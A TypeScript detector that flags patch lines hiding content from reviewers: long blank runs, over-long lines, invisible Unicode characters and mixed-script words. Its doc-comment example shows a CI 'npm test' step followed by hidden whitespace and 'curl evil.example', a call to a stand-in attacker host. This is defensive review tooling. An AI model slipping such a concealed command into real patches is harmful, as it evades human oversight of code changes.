/** Blanks inside a line, and in front of it: white space, and letters and signs without ink. A comment shows about 100 columns. */
const longBlank = /[\s\u115f\u1160\u2800\u3164\uffa0]{41}/u;
const longIndentation = /^[\s\u115f\u1160\u2800\u3164\uffa0]{101}/u;
const inkless = /[\u115f\u1160\u2800\u3164\uffa0]/u;
const maxLineChars = 500;

/**
 * Tells whether a changed line of a patch has text that a reader can miss: more than 40 blanks inside the line or 100 in front of it, more than
 * 500 characters, letters without ink, or a word that mixes Latin with Cyrillic or Greek letters.
 *
 * @example
 * isOutOfSight(`+run: npm test${' '.repeat(41)}&& curl evil.example`); // true
 */
export function isOutOfSight(patch: string): boolean {
  const changed = patch.split('\n').filter((line) => /^[+-]/.test(line));
  return changed.some((line) => {
    const text = line.slice(1);
    return (
      text.length > maxLineChars ||
      inkless.test(text) ||
      longIndentation.test(text) ||
      longBlank.test(text.trimStart()) ||
      (text.match(/[\p{L}\p{M}]+/gu) ?? []).some(isMixed)
    );
  });
}

function isMixed(word: string): boolean {
  return /\p{Script=Latin}/u.test(word) && /[\p{Script=Cyrillic}\p{Script=Greek}]/u.test(word);
}
